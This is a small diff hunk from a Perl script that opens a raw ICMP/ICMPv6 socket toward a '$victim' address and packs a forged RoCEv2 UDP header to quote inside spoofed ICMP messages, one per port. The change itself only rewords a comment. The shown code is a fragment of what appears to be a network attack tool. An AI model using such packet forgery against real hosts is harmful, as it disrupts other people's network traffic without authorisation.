@@ -37,7 +37,7 @@ my $to = $v6 ? pack_sockaddr_in6(0, inet_pton(AF_INET6, $victim)) : pack_sockadd
 socket my $raw, $v6 ? AF_INET6 : AF_INET, SOCK_RAW, $v6 ? 58 : IPPROTO_ICMP or die "raw socket: $!\n";
 my $sent = 0;
 for my $port (@ports) {
-    # As much of a RoCEv2 packet of 4,096 bytes of payload as routers quote.
+    # The part of a RoCEv2 packet with 4,096 bytes of payload that routers quote.
     my $udp = pack('nnnn', $port, 4791, 4096 + 24, 0) . pack('CCnNN', 0x07, 0x40, 0xffff, 0, 0) . 'x' x 64;
     my $quoted;
     if ($v6) {
